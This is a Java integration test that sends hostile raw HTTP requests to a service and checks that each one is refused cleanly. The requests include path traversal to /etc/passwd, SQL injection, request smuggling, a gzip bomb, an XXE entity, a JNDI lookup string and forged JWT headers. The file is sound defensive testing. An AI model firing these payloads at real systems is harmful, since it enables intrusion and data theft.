package disclosure.requests.problem;

import static org.assertj.core.api.Assertions.assertThat;

import disclosure.edge.testing.TestClient;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Optional;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Requests that no proper client sends, byte by byte over a socket. */
@QuarkusTest
class HostileRequestsIT {

  private static final int TIMEOUT_MILLIS = 10_000;

  /** What breaks in the middle of its body is not answered, only hung up on. */
  private static final String CLOSED = "closed";

  @TestHTTPResource("/")
  URL url;

  @ParameterizedTest(name = "{0}")
  @MethodSource({"lines_and_paths", "headers", "bodies", "tokens"})
  void is_refused_in_words_and_never_breaks_anything(String name, byte[] request, String statuses)
      throws IOException {
    String answer = exchange(request);

    String status = answer.isEmpty() ? CLOSED : answer.split(" ", 3)[1];
    assertThat(status).as(answer).matches(statuses);
    if (status.charAt(0) == '4' && !answer.endsWith("\r\n\r\n")) {
      assertThat(answer.substring(0, answer.indexOf("\r\n\r\n")).toLowerCase(Locale.ROOT))
          .contains("content-type: application/problem+json");
    }
    assertThat(answer).doesNotContain("Exception", "\tat ", "<html", "GEHEIM");
    assertThat(exchange(get("/applications?limit=1", auth()))).startsWith("HTTP/1.1 200");
  }

  static Stream<Arguments> lines_and_paths() {
    return Stream.of(
        raw("a broken escape in the path", get("/applications/%zz", auth()), "4\\d\\d"),
        raw("NUL in the path", get("/applications/%00", auth()), "4\\d\\d"),
        raw("half a character in the path", get("/applications/%e4%b8", auth()), "4\\d\\d"),
        raw("a way up in the path", get("/applications/..%2f..%2fetc%2fpasswd", auth()), "4\\d\\d"),
        raw("a way up through the path", get("/applications/../../etc/passwd", auth()), "4\\d\\d"),
        raw("a matrix parameter", get("/applications;a=b?status=RECEIVED", auth()), "[24]\\d\\d"),
        raw("a broken escape in the query", get("/applications?organ=%zz", auth()), "4\\d\\d"),
        raw("NUL in the query", get("/applications?subject=%00", auth()), "[24]\\d\\d"),
        raw(
            "half a character in the query",
            get("/applications?subject=%e4", auth()),
            "[24]\\d\\d"),
        raw("a pattern in the query", get("/applications?subject=%25_%5c%27", auth()), "200"),
        raw(
            "a number beyond all numbers",
            get("/applications?limit=99999999999999999999", auth()),
            "400"),
        raw("a number below nothing", get("/applications?limit=-1", auth()), "400"),
        raw(
            "a place made up",
            get("/applications?after=' OR 1=1--".replace(" ", "%20"), auth()),
            "400"),
        raw("a path of 20 KB", get("/applications/" + "a".repeat(20_000), auth()), "414"),
        raw("a query of 20 KB", get("/applications?subject=" + "a".repeat(20_000), auth()), "414"),
        raw("a path of 1 MB", get("/applications/" + "a".repeat(1_000_000), auth()), "414"),
        raw("an unknown method", request("BREW", "/applications", auth(), ""), "4\\d\\d|501"),
        raw("TRACE", request("TRACE", "/applications", auth(), ""), "4\\d\\d"),
        raw("DELETE", request("DELETE", "/applications", auth(), ""), "405"),
        raw("PATCH", request("PATCH", "/applications", auth(), "{}"), "405"),
        raw(
            "an overridden method",
            request("POST", "/organs", auth() + "X-HTTP-Method-Override: DELETE\r\n", "{}"),
            "4\\d\\d"),
        raw(
            "no version of HTTP",
            "GET /applications\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
            "4\\d\\d"),
        raw(
            "another version of HTTP",
            "GET /applications HTTP/9.9\r\nHost: x\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
            "4\\d\\d|50[15]"));
  }

  static Stream<Arguments> headers() {
    return Stream.of(
        raw(
            "a header of 20 KB",
            get("/applications", auth() + "X-Long: " + "a".repeat(20_000) + "\r\n"),
            "4\\d\\d"),
        raw(
            "a thousand headers",
            get("/applications", auth() + "X-Many: 1\r\n".repeat(1000)),
            "[24]\\d\\d"),
        raw(
            "two kinds of length",
            ("POST /applications HTTP/1.1\r\nHost: x\r\n"
                    + auth()
                    + "Content-Type: application/json\r\n"
                    + "Content-Length: 4\r\n"
                    + "Transfer-Encoding: chunked\r\n\r\n"
                    + "0\r\n\r\n")
                .getBytes(StandardCharsets.US_ASCII),
            "4\\d\\d"),
        raw(
            "two lengths",
            ("POST /applications HTTP/1.1\r\nHost: x\r\n"
                    + auth()
                    + "Content-Type: application/json\r\n"
                    + "Content-Length: 2\r\n"
                    + "Content-Length: 3\r\n\r\n"
                    + "{}")
                .getBytes(StandardCharsets.US_ASCII),
            "4\\d\\d"),
        raw(
            "a length below nothing",
            ("POST /applications HTTP/1.1\r\nHost: x\r\n"
                    + auth()
                    + "Content-Type: application/json\r\nContent-Length: -2\r\n\r\n{}")
                .getBytes(StandardCharsets.US_ASCII),
            "4\\d\\d"),
        raw(
            "a length beyond all numbers",
            ("POST /applications HTTP/1.1\r\nHost: x\r\n"
                    + auth()
                    + "Content-Type: application/json\r\n"
                    + "Content-Length: 99999999999999999999\r\n\r\n"
                    + "{}")
                .getBytes(StandardCharsets.US_ASCII),
            "4\\d\\d"),
        raw(
            "a large length",
            ("POST /applications HTTP/1.1\r\nHost: x\r\n"
                    + auth()
                    + "Content-Type: application/json\r\nContent-Length: 9999999999\r\n\r\n{}")
                .getBytes(StandardCharsets.US_ASCII),
            "413"),
        raw(
            "a broken chunk",
            ("POST /applications HTTP/1.1\r\nHost: x\r\n"
                    + auth()
                    + "Content-Type: application/json\r\n"
                    + "Transfer-Encoding: chunked\r\n\r\n"
                    + "zz\r\n"
                    + "{}\r\n"
                    + "0\r\n\r\n")
                .getBytes(StandardCharsets.US_ASCII),
            CLOSED),
        raw(
            "a language that is none",
            get("/nothing", auth() + "Accept-Language: ;;q=x,%%\r\n"),
            "404"),
        raw(
            "a representation that is none",
            get("/applications", auth() + "Accept: ///\r\n"),
            "[24]\\d\\d"),
        raw(
            "a content type that is none",
            request(
                "POST", "/applications", auth().replace("\r\n", "\r\nContent-Type: ;;;\r\n"), "{}"),
            "4\\d\\d"),
        raw(
            "forwarded for somebody else",
            get("/applications", auth() + "X-Forwarded-Prefix: /../\r\nX-Forwarded-Host: evil\r\n"),
            "200"),
        raw(
            "an empty key",
            post("Idempotency-Key: \r\n", "{}".getBytes(StandardCharsets.UTF_8)),
            "400"),
        raw(
            "a key of quotes",
            post("Idempotency-Key: \"\r\n", "{}".getBytes(StandardCharsets.UTF_8)),
            "400"));
  }

  static Stream<Arguments> bodies() {
    return Stream.of(
        raw("a gzipped body", post("Content-Encoding: gzip\r\n", gzip("{}")), "4\\d\\d"),
        raw("a bomb", post("Content-Encoding: gzip\r\n", gzip(" ".repeat(10_000_000))), "4\\d\\d"),
        raw(
            "another character set",
            request(
                "POST",
                "/applications",
                auth() + "Content-Type: application/json; charset=GBK\r\n",
                "{\"subject\":\"é\"}"),
            "4\\d\\d"),
        raw(
            "a million array elements",
            post(
                "",
                ("{\"steps\":[" + "1,".repeat(100_000) + "1]}").getBytes(StandardCharsets.UTF_8)),
            "4\\d\\d"),
        raw(
            "as many values that are none",
            post(
                "",
                ("{\"steps\":[" + "null,".repeat(50_000) + "null]}")
                    .getBytes(StandardCharsets.UTF_8)),
            "400"),
        raw(
            "an external entity",
            request(
                "POST",
                "/applications",
                auth() + "Content-Type: application/xml\r\n",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
            "415"),
        raw(
            "a form with parts",
            request(
                "POST",
                "/applications",
                auth() + "Content-Type: multipart/form-data; boundary=x\r\n",
                "--x--"),
            "415"),
        raw(
            "a batch as a form",
            request(
                "POST",
                "/applications/batch",
                auth() + "Content-Type: multipart/form-data; boundary=x\r\n",
                "--x--"),
            "415"),
        raw(
            "a ledger that is a bomb",
            request(
                "POST",
                "/ledger/imports?organ=111411240123456713",
                auth() + "Content-Type: text/csv\r\n",
                "\"".repeat(50_000)),
            "4\\d\\d"),
        raw(
            "a placeholder and a look-up",
            post(
                "",
                "{\"sourceReference\":\"${jndi:ldap://x/GEHEIM}\",\"organCode\":\"#{1+1}\"}"
                    .getBytes(StandardCharsets.UTF_8)),
            "400"));
  }

  static Stream<Arguments> tokens() {
    String valid = TestClient.RECORDER.token();
    String[] parts = valid.split("\\.");
    return Stream.of(
        raw(
            "a token of 14 KB",
            get("/applications", bearer(valid + "A".repeat(12_000))),
            "401|431"),
        raw(
            "a token with a foreign key's address",
            get(
                "/applications",
                bearer(
                    header("{\"alg\":\"RS256\",\"jku\":\"http://127.0.0.1:1/\"}")
                        + "."
                        + parts[1]
                        + "."
                        + parts[2])),
            "401"),
        raw(
            "a token with a key of its own",
            get(
                "/applications",
                bearer(
                    header(
                            "{\"alg\":\"RS256\",\"jwk\":{\"kty\":\"RSA\",\"n\":\"AQAB\",\"e\":\"AQAB\"}}")
                        + "."
                        + parts[1]
                        + "."
                        + parts[2])),
            "401"),
        raw(
            "a token signed with a shared secret",
            get(
                "/applications",
                bearer(header("{\"alg\":\"HS256\"}") + "." + parts[1] + "." + parts[2])),
            "401"),
        raw(
            "a token of an unknown key",
            get(
                "/applications",
                bearer(
                    header("{\"alg\":\"RS256\",\"kid\":\"../../dev/null\"}")
                        + "."
                        + parts[1]
                        + "."
                        + parts[2])),
            "401"),
        raw("two tokens", get("/applications", auth() + bearer("x")), "[24]\\d\\d"),
        raw(
            "another scheme",
            get("/applications", "Authorization: Basic cmVjb3JkZXI6c2VjcmV0\r\n"),
            "401"));
  }

  private String exchange(byte[] request) throws IOException {
    try (Socket socket = new Socket(url.getHost(), url.getPort())) {
      socket.setSoTimeout(TIMEOUT_MILLIS);
      OutputStream out = socket.getOutputStream();
      try {
        out.write(request);
        out.flush();
      } catch (IOException refusedMeanwhile) {
        // The answer may be there already.
      }
      return answer(socket.getInputStream());
    }
  }

  /** Head and body, as far as the head tells its length. */
  private static String answer(InputStream in) throws IOException {
    StringBuilder head = new StringBuilder();
    for (int next = in.read(); next >= 0; next = in.read()) {
      head.append((char) next);
      if (head.length() >= 4 && head.substring(head.length() - 4).equals("\r\n\r\n")) {
        byte[] body = in.readNBytes(length(head.toString()).orElse(0));
        return head + new String(body, StandardCharsets.UTF_8);
      }
    }
    return head.toString();
  }

  private static Optional<Integer> length(String head) {
    return head.lines()
        .filter(line -> line.toLowerCase(Locale.ROOT).startsWith("content-length:"))
        .map(line -> Integer.valueOf(line.substring(15).strip()))
        .findFirst();
  }

  private static Arguments raw(String name, byte[] request, String statuses) {
    return Arguments.of(name, request, statuses);
  }

  private static String auth() {
    return bearer(TestClient.RECORDER.token());
  }

  private static String bearer(String token) {
    return "Authorization: Bearer " + token + "\r\n";
  }

  private static String header(String json) {
    return java.util.Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(json.getBytes(StandardCharsets.UTF_8));
  }

  private static byte[] get(String path, String headers) {
    return ("GET " + path + " HTTP/1.1\r\nHost: localhost\r\n" + headers + "\r\n")
        .getBytes(StandardCharsets.US_ASCII);
  }

  private static byte[] request(String method, String path, String headers, String body) {
    return (method
            + " "
            + path
            + " HTTP/1.1\r\nHost: localhost\r\n"
            + headers
            + "Content-Length: "
            + body.length()
            + "\r\n\r\n"
            + body)
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] post(String headers, byte[] body) {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    all.writeBytes(
        ("POST /applications HTTP/1.1\r\nHost: localhost\r\n"
                + auth()
                + headers
                + "Content-Type: application/json\r\nContent-Length: "
                + body.length
                + "\r\n\r\n")
            .getBytes(StandardCharsets.US_ASCII));
    all.writeBytes(body);
    return all.toByteArray();
  }

  private static byte[] gzip(String text) {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      gzip.write(text.getBytes(StandardCharsets.UTF_8));
    } catch (IOException impossible) {
      throw new java.io.UncheckedIOException(impossible);
    }
    return packed.toByteArray();
  }
}
